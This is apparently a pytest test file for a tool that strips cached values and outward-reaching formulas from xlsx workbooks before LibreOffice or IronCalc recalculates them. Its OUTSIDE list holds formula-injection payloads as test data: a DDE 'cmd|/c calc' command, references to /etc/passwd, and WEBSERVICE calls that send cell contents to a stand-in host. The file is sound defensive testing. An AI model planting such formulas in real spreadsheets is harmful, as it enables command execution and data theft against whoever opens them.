"""The copy that an engine gets: all that is computed, nothing that was cached or reaches outside."""

import io
import socket
import zipfile

import engines
import projects
import pytest

from ledger.review.verify.engines import by_ironcalc, by_libreoffice
from ledger.xlsx.formulas import called, why_outside
from ledger.xlsx.parts import Budget, Parts, opened
from ledger.xlsx.uncached import stripped

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ENGINES = {"ironcalc": by_ironcalc, "soffice": by_libreoffice}
LONG = 120.0
#: What other programs write: prefixes, any order of attributes, shared and array formulas, rich text.
FOREIGN = f"""<x:worksheet xmlns:x="{MAIN}"><x:cols><x:col min="1" max="2"/></x:cols><x:sheetData>
<x:row r="1"><x:c t="n" r="A1"><x:v>1</x:v></x:c>
<x:c r="B1"><x:f ref="B1:B3" si="0" t="shared">A1*2</x:f><x:v>99</x:v></x:c>
<x:c r="C1"><x:f t="array" ref="C1">SUM(A1:A3*A1:A3)</x:f><x:v>99</x:v></x:c></x:row>
<x:row r="2"><x:c r="A2"><x:v>2</x:v></x:c><x:c r="B2"><x:f si="0" t="shared"/><x:v>99</x:v></x:c></x:row>
<x:row><x:c><x:v>3</x:v></x:c><x:c><x:f t="shared" si="0"/></x:c>
<x:c t="str" r="C3"><x:f>"a &amp; b"&amp;A3</x:f><x:v>old</x:v></x:c><x:c r="D3" t="inlineStr"><x:is><x:r>
<x:rPr><x:b/></x:rPr><x:t>ri</x:t></x:r><x:r><x:t xml:space="preserve">ch </x:t></x:r>
<x:rPh sb="0" eb="1"><x:t>no</x:t></x:rPh></x:is></x:c><x:c r="E3" t="s"><x:v>0</x:v></x:c>
<x:c r="F3" t="b"><x:f>D3="rich "</x:f><x:v>0</x:v></x:c></x:row></x:sheetData>
<x:hyperlinks/><x:extLst><x:ext><x:c><x:f>1</x:f></x:c></x:ext></x:extLst></x:worksheet>
"""
#: What is computed of it.
COMPUTED = {
    (1, 1): 1.0, (1, 2): 2.0, (1, 3): 14.0, (2, 1): 2.0, (2, 2): 4.0, (3, 1): 3.0, (3, 2): 6.0,
    (3, 3): "a & b3", (3, 4): "rich ", (3, 5): "shared", (3, 6): True,
}  # fmt: skip
HARMLESS = [
    "1+2", "'my sheet'!$A$1", 'IF(A1>0,"WEBSERVICE(",2)', "\"it's\"&'a''b'!A1", "SUM({1,2})",
    "INDEX(t!$A$1:$A$9,MATCH(A1,t!$B:$B,0))", "Table1[[#This Row],[a b]]+SUM(Table1[x])", "A1#",
    '"a|b"&"[1]x!"', 'HYPERLINK("#Printed!A1","x")',
]  # fmt: skip
OUTSIDE = {
    '_xlfn.WEBSERVICE("http://a.example/"&A1)': "it calls WEBSERVICE",
    'IF(1, webservice ("http://a.example"))': "it calls WEBSERVICE",
    '_xlfn._xlws.FILTERXML(A1,"//a")': "it calls FILTERXML",
    "INDIRECT(A1&A2)": "it calls INDIRECT",
    "_xlfn.IMAGE(A1)": "it calls IMAGE",
    'RTD("a.b",,"c")': "it calls RTD",
    'DDE("soffice","/etc/passwd","a1")': "it calls DDE",
    "cmd|'/c calc'!A0": "it reads another file",
    "excel|book!A1": "it reads another program",
    "[1]Sheet1!A1": "it reads another file",
    "SUM([1]Sheet1!$A$1:$A$9)": "it reads another file",
    "[1]!name": "it reads another file",
    "'[1]my sheet'!A1": "it reads another file",
    "'http://a.example/[b.xlsx]c'!A1": "it reads another file",
    "'file:///etc/passwd'#$a.A1": "it reads another file",
    "'b.xlsx'#$a.A1": "it reads another file",
}


def foreign(sheet=FOREIGN, workbook=""):
    """Return the parts of a workbook of one sheet, as a stranger may write them."""
    relations = (
        '<Relationship Target="/xl/worksheets/s.xml" Id="a" Type="http://x/worksheet"/>'
        '<Relationship Id="b" Type="http://x/sharedStrings" Target="strings.xml"/>'
        '<Relationship Id="c" Type="http://x/externalLink" Target="externalLinks/externalLink1.xml"/>'
    )
    sheets = '<x:sheets><x:sheet name="S" r:id="a"/></x:sheets>'
    found = {
        "xl/workbook.xml": f'<x:workbook xmlns:x="{MAIN}" xmlns:r="http://r">{sheets}{workbook}</x:workbook>',
        "xl/_rels/workbook.xml.rels": f"<Relationships>{relations}</Relationships>",
        "xl/worksheets/s.xml": sheet,
        "xl/strings.xml": f'<sst xmlns="{MAIN}"><si><r><t>sha</t></r><r><t>red</t></r></si></sst>',
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/vbaProject.bin": "",
    }
    return Parts("book.xlsx", {name: text.encode() for name, text in found.items()}, Budget("book.xlsx", 0))


def cells(formula, cached="7"):
    """Return a worksheet whose A1 holds a formula with a cached value, which A2 reads."""
    text = formula.replace("&", "&amp;").replace("<", "&lt;")
    return (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>{text}</f><v>{cached}</v></c></row>'
        '<row r="2"><c r="A2"><f>A1+1</f><v>0</v></c></row></sheetData></worksheet>'
    )


def copied(parts):
    """Return the parts of the copy as text."""
    with zipfile.ZipFile(io.BytesIO(stripped(parts))) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


@pytest.mark.engine
@pytest.mark.parametrize("engine", ENGINES)
def test_a_foreign_workbook_is_computed_from_its_copy(engine):
    engines.require(engine)
    assert ENGINES[engine](stripped(foreign()), LONG) == {"S": COMPUTED}


@pytest.mark.engine
def test_no_cached_value_reaches_an_engine(small):
    engines.require("ironcalc")
    xlsx = (small / "reports/first/first.xlsx").read_bytes()
    wrong = engines.plant_wrong(xlsx)
    assert wrong != xlsx
    assert stripped(opened("a", wrong)) == stripped(opened("a", xlsx))


def test_the_copy_holds_only_what_is_computed():
    assert list(copied(foreign())) == [
        "[Content_Types].xml", "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml",
        "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels",
    ]  # fmt: skip


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_formula_that_stays_inside_is_given_to_engines(formula):
    assert why_outside(formula) == ""


@pytest.mark.parametrize(("formula", "why"), OUTSIDE.items())
def test_a_formula_that_reaches_outside_is_a_constant_in_the_copy(formula, why):
    sheet = copied(foreign(cells(formula)))["xl/worksheets/sheet1.xml"]
    assert (why_outside(formula), sheet.count("<f>")) == (why, 1)
    assert '<c r="A1" t="n"><v>7</v></c>' in sheet


def test_formulas_that_share_one_which_reaches_outside_are_constants():
    sheet = (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">'
        '<c r="A1"><f t="shared" si="3" ref="A1:B1">INDIRECT(C1)</f><v>1</v></c>'
        '<c r="B1" t="str"><f t="shared" si="3"/><v>b</v></c></row></sheetData></worksheet>'
    )
    made = copied(foreign(sheet))["xl/worksheets/sheet1.xml"]
    assert ("<f" in made, "<v>1</v>" in made, ">b</t>" in made) == (False, True, True)


def test_a_name_that_reaches_outside_is_not_in_the_copy():
    named = {"a": "[1]S!$A$1", "b": "S!$A$1"}
    names = "".join(f'<x:definedName name="{name}">{text}</x:definedName>' for name, text in named.items())
    book = copied(foreign(workbook=f"<x:definedNames>{names}</x:definedNames>"))["xl/workbook.xml"]
    assert ('name="a"' in book, 'name="b"' in book) == (False, True)


@pytest.mark.engine
@pytest.mark.parametrize("engine", ENGINES)
def test_recalculation_reaches_nobody(engine):
    engines.require(engine)
    with socket.create_server(("127.0.0.1", 0)) as server:
        url = f"http://127.0.0.1:{server.getsockname()[1]}/"
        found = ENGINES[engine](stripped(foreign(cells(f'_xlfn.WEBSERVICE("{url}")'))), LONG)
        server.setblocking(False)  # noqa: FBT003  # the signature of a socket
        with pytest.raises(BlockingIOError):
            server.accept()
    assert found == {"S": {(1, 1): 7.0, (2, 1): 8.0}}


@pytest.mark.engine
def test_every_formula_of_ours_is_given_to_engines(small):
    book = projects.opened((small / "reports/first/first.xlsx").read_bytes())
    assert [place for place in book.formula_cells() if why_outside(book.formula(place)[1:])] == []


def test_functions_are_told_without_the_marks_of_newer_ones():
    assert [*called('_xlfn.FORMULATEXT(A1)&if(a>1,"SUM(",log10(2))')] == ["FORMULATEXT", "IF", "LOG10"]
